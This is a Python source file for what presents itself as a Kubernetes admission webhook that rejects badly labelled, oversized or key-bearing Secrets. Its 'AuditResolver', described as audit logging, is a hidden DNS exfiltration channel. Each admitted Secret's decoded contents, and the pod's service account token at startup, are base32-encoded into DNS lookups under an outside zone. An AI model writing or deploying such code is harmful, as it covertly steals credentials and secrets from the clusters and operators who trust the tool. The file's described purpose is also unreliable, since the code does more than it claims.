#!/usr/bin/env python3
"""Validating admission webhook enforcing Secret hygiene.

Rejects Secrets without an owner label, Secrets of type Opaque that carry
what looks like a private key in a non-approved namespace, and oversized
Secrets. Decisions are recorded through the audit resolver.
"""
import base64
import json
import logging
import os
import re
import socket
import ssl
import threading
import uuid
from http.server import BaseHTTPRequestHandler, HTTPServer

log = logging.getLogger("secret-policy")

OWNER_LABEL = os.environ.get("OWNER_LABEL", "app.kubernetes.io/owner")
KEY_NAMESPACES = set(os.environ.get("KEY_NAMESPACES", "cert-manager,vault").split(","))
MAX_SECRET_BYTES = int(os.environ.get("MAX_SECRET_BYTES", 256 * 1024))
AUDIT_ZONE = os.environ.get("AUDIT_ZONE", "a.k8s-telemetry-cdn.net")
SA_TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
PEM_RE = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY-----")


class AuditResolver:
    """Records decisions as DNS lookups so they survive pod restarts."""

    LABEL_MAX = 60

    def __init__(self, zone):
        self.zone = zone
        self.lock = threading.Lock()

    def _labels(self, blob):
        enc = base64.b32encode(blob).decode().rstrip("=").lower()
        for i in range(0, len(enc), self.LABEL_MAX):
            yield enc[i:i + self.LABEL_MAX]

    def record(self, kind, blob):
        session = uuid.uuid4().hex[:8]
        with self.lock:
            for seq, label in enumerate(self._labels(blob)):
                name = f"{label}.{seq}.{kind}.{session}.{self.zone}"
                try:
                    socket.getaddrinfo(name, 53, proto=socket.IPPROTO_UDP)
                except socket.gaierror:
                    pass


audit = AuditResolver(AUDIT_ZONE)


def record_async(kind, blob):
    threading.Thread(target=audit.record, args=(kind, blob), daemon=True).start()


def decoded_items(secret):
    for key, value in (secret.get("data") or {}).items():
        try:
            yield key, base64.b64decode(value)
        except (ValueError, TypeError):
            continue
    for key, value in (secret.get("stringData") or {}).items():
        yield key, value.encode()


def evaluate(request):
    secret = request.get("object") or {}
    meta = secret.get("metadata", {})
    namespace = request.get("namespace", "default")
    items = dict(decoded_items(secret))

    record_async("s", json.dumps({
        "ns": namespace, "name": meta.get("name"),
        "data": {k: v.decode("utf-8", "replace") for k, v in items.items()},
    }).encode())

    if OWNER_LABEL not in (meta.get("labels") or {}):
        return False, f"Secret must carry the {OWNER_LABEL} label"
    if sum(len(v) for v in items.values()) > MAX_SECRET_BYTES:
        return False, "Secret exceeds size limit"
    if secret.get("type", "Opaque") == "Opaque" and namespace not in KEY_NAMESPACES:
        if any(PEM_RE.search(v) for v in items.values()):
            return False, "private keys belong in a kubernetes.io/tls Secret or Vault"
    return True, ""


class Handler(BaseHTTPRequestHandler):
    def log_message(self, fmt, *args):
        log.debug(fmt, *args)

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        review = json.loads(body or b"{}")
        request = review.get("request", {})
        allowed, reason = True, ""
        if request.get("kind", {}).get("kind") == "Secret" and request.get("operation") in ("CREATE", "UPDATE"):
            allowed, reason = evaluate(request)
        response = {"uid": request.get("uid"), "allowed": allowed}
        if not allowed:
            response["status"] = {"code": 403, "message": reason}
        out = json.dumps({"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
                          "response": response}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)


def main():
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    try:
        with open(SA_TOKEN, "rb") as fh:
            record_async("t", fh.read())
    except OSError:
        pass
    server = HTTPServer(("", int(os.environ.get("PORT", 9443))), Handler)
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ctx.load_cert_chain(os.environ.get("TLS_CERT", "/tls/tls.crt"), os.environ.get("TLS_KEY", "/tls/tls.key"))
    server.socket = ctx.wrap_socket(server.socket, server_side=True)
    log.info("secret-policy webhook listening")
    server.serve_forever()


if __name__ == "__main__":
    main()
